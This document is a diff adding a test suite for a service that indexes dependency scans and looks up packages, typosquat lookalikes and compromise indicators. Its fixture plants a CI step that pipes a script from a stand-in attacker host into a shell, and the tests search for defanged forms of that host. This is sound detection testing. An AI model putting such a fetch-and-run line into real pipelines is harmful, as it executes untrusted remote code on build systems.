@@ -1,0 +1,200 @@
+/** Inventories of real scans, kept in a real database and asked for one package. */
+import { randomUUID } from 'node:crypto';
+import { collectIndicators, memorySource, scan } from '@vedette/engine';
+import { beforeAll, describe, expect, test } from 'vitest';
+import { withServer } from '../../../../../tests/setup/app.ts';
+import { systemActor } from '../audit/index.ts';
+import { findOrCreateLocalWorkspace } from '../workspaces/index.ts';
+import { indexScan, lookUp, type Question } from './index.ts';
+
+const server = withServer();
+const ctxOf = () => server.current.assembly.ctx;
+
+const lock = (
+  packages: Record<string, { version: string; dev?: boolean; requires?: Record<string, string> }>,
+) =>
+  JSON.stringify({
+    name: 'shop',
+    lockfileVersion: 3,
+    packages: Object.fromEntries([
+      ['', { name: 'shop', dependencies: { lodash: '^4.17.0', express: '^4.0.0' } }],
+      ...Object.entries(packages).map(([name, { version, dev, requires }]) => [
+        `node_modules/${name}`,
+        { version, ...(dev ? { dev } : {}), ...(requires ? { dependencies: requires } : {}) },
+      ]),
+    ]),
+  });
+
+const manifest = JSON.stringify({ name: 'shop', dependencies: { lodash: '^4.17.0', express: '^4.0.0' } });
+
+const shop = {
+  'package.json': manifest,
+  'package-lock.json': lock({
+    lodash: { version: '4.17.20' },
+    express: { version: '4.18.0', requires: { qs: '6.9.0' } },
+    qs: { version: '6.9.0' },
+  }),
+  'src/index.js': "const _ = require('lodash');\nmodule.exports = (t) => _.template(t);\n",
+  '.github/workflows/ci.yml': 'steps:\n  - run: curl https://drop.evil.example/x.sh | sh\n',
+};
+
+const question = (changes: Partial<Question> = {}): Question => ({
+  package: 'lodash',
+  ecosystem: null,
+  indicators: [],
+  lookalikes: false,
+  ...changes,
+});
+
+let organizationId: string;
+let workspaceId: string;
+
+async function newWorkspace(organization: string): Promise<string> {
+  const workspace = await ctxOf().transaction((tx) =>
+    findOrCreateLocalWorkspace(tx, organization, systemActor('test'), randomUUID()),
+  );
+  return workspace.id;
+}
+
+/** Scans these files with the engine and makes the scan the latest of the workspace. */
+async function scanned(files: Record<string, string>, completedAt: string, into = workspaceId) {
+  const rules = { rules: [], models: [], faults: [] };
+  const result = await scan(memorySource(files), { scanType: 'standard', rules, workers: 1 });
+  const indicators = await collectIndicators(memorySource(files));
+  const about = { inventory: result.dependencies, usage: result.usage, indicators };
+  const completed = { workspaceId: into, scanId: randomUUID(), completedAt: new Date(completedAt) };
+  return indexScan(ctxOf(), organizationId, completed, about);
+}
+
+async function ask(changes: Partial<Question> = {}) {
+  return lookUp(ctxOf(), organizationId, question(changes));
+}
+
+beforeAll(async () => {
+  organizationId = randomUUID();
+  workspaceId = await newWorkspace(organizationId);
+  await scanned(shop, '2026-11-01T00:00:00Z');
+});
+
+describe('a package that is asked for', () => {
+  test('is answered with its version, where it stands, where it is imported and what is called', async () => {
+    const { workspaces, ecosystems } = await ask();
+    expect(ecosystems).toEqual(['npm']);
+    expect(workspaces).toHaveLength(1);
+    expect(workspaces[0]?.present).toMatchObject([
+      {
+        ecosystem: 'npm',
+        version: '4.17.20',
+        relation: 'direct',
+        development: false,
+        occurrences: [{ file: 'package-lock.json', declaredAt: { file: 'package.json' } }],
+        imports: [{ file: 'src/index.js', line: 1, calls: [{ name: 'template', line: 2 }] }],
+      },
+    ]);
+  });
+
+  test('that came through another one has the path to it', async () => {
+    const { workspaces } = await ask({ package: 'qs' });
+    expect(workspaces[0]?.present[0]).toMatchObject({
+      relation: 'transitive',
+      occurrences: [{ path: ['shop', 'express@4.18.0', 'qs@6.9.0'] }],
+    });
+  });
+
+  test('is found in the spelling of its ecosystem only', async () => {
+    expect((await ask({ package: 'LoDash' })).workspaces[0]?.present).toHaveLength(1);
+    expect((await ask({ ecosystem: 'pypi' })).workspaces[0]?.present).toEqual([]);
+  });
+
+  test('is not found by another organization, nor are its workspaces', async () => {
+    const other = await lookUp(ctxOf(), randomUUID(), question());
+    expect(other).toEqual({ workspaces: [], ecosystems: [], unknownIndicators: [] });
+  });
+
+  test('is asked for with a plan that looks into an index', async () => {
+    const plan = await ctxOf().transaction(async (tx) => {
+      await tx.db.query({ text: 'set local enable_seqscan = off' }, []);
+      return tx.db.query<{ 'QUERY PLAN': string }>(
+        {
+          text: `explain select * from components where organization_id = $1 and (name_key = any($2) or short_key = any($2))`,
+        },
+        [organizationId, ['lodash']],
+      );
+    });
+    expect(plan.map((row) => row['QUERY PLAN']).join('\n')).toContain('components_name');
+  });
+});
+
+describe('names and indicators', () => {
+  test('a name that looks like one in use brings the one in use', async () => {
+    for (const name of ['lodahs', 'l0dash', 'lo-dash', '@evil/lodash', 'lodas']) {
+      const { workspaces } = await ask({ package: name, lookalikes: true });
+      const found = workspaces[0]?.lookalikes.map((one) => one.name);
+      expect(found, name).toEqual(name === '@evil/lodash' ? [] : ['lodash']);
+    }
+  });
+
+  test('an indicator is found in a pipeline however it is written, with file and line', async () => {
+    for (const indicator of [
+      'hxxps://drop[.]evil[.]example/x.sh',
+      'drop.evil.example',
+      'evil[.]example',
+      'x.sh',
+    ]) {
+      const { workspaces } = await ask({ package: 'nothing', indicators: [indicator] });
+      expect(workspaces[0]?.indicators, indicator).toMatchObject([
+        { file: '.github/workflows/ci.yml', line: 2 },
+      ]);
+    }
+  });
+
+  test('an indicator of a form that cannot be looked up is said to be one', async () => {
+    const { unknownIndicators } = await ask({ indicators: ['a strange process'] });
+    expect(unknownIndicators).toEqual(['a strange process']);
+  });
+});
+
+describe('later scans', () => {
+  test('make what is gone a thing of the past, with the time in which it was there', async () => {
+    workspaceId = await newWorkspace(organizationId);
+    await scanned(shop, '2026-11-01T00:00:00Z');
+    await scanned(shop, '2026-11-05T00:00:00Z');
+    const newer = { ...shop, 'package-lock.json': lock({ lodash: { version: '4.17.21' } }) };
+    const touched = await scanned(newer, '2026-11-09T00:00:00Z');
+    expect(touched.map((one) => one.nameKey).sort()).toEqual(['express', 'lodash', 'qs']);
+    const mine = (await ask()).workspaces.find((one) => one.workspaceId === workspaceId);
+    expect(mine?.present.map((one) => one.version)).toEqual(['4.17.21']);
+    expect(mine?.past).toMatchObject([
+      { version: '4.17.20', firstSeenAt: new Date('2026-11-01'), lastSeenAt: new Date('2026-11-05') },
+    ]);
+  });
+
+  test('that were completed earlier than the one in place change nothing', async () => {
+    expect(await scanned({}, '2026-11-02T00:00:00Z')).toEqual([]);
+    const mine = (await ask()).workspaces.find((one) => one.workspaceId === workspaceId);
+    expect(mine?.present).toHaveLength(1);
+  });
+
+  test('of one workspace at once leave one inventory: that of the last', async () => {
+    workspaceId = await newWorkspace(organizationId);
+    const versions = [1, 2, 3, 4, 5, 6];
+    await Promise.all(
+      versions.map((n) =>
+        scanned(
+          { ...shop, 'package-lock.json': lock({ lodash: { version: `4.17.${n}` } }) },
+          `2026-11-0${n}T00:00:00Z`,
+        ),
+      ),
+    );
+    const mine = (await ask()).workspaces.find((one) => one.workspaceId === workspaceId);
+    expect(mine?.present.map((one) => one.version)).toEqual(['4.17.6']);
+  });
+});
+
+test('a lock file with text that the database cannot hold keeps nothing else out', async () => {
+  workspaceId = await newWorkspace(organizationId);
+  const hostile = lock({ lodash: { version: '4.17.20' }, 'a\u0000b': { version: '1.0.0\ud800' } });
+  await scanned({ ...shop, 'package-lock.json': hostile }, '2026-11-01T00:00:00Z');
+  const mine = (await ask()).workspaces.find((one) => one.workspaceId === workspaceId);
+  expect(mine?.present).toHaveLength(1);
+});
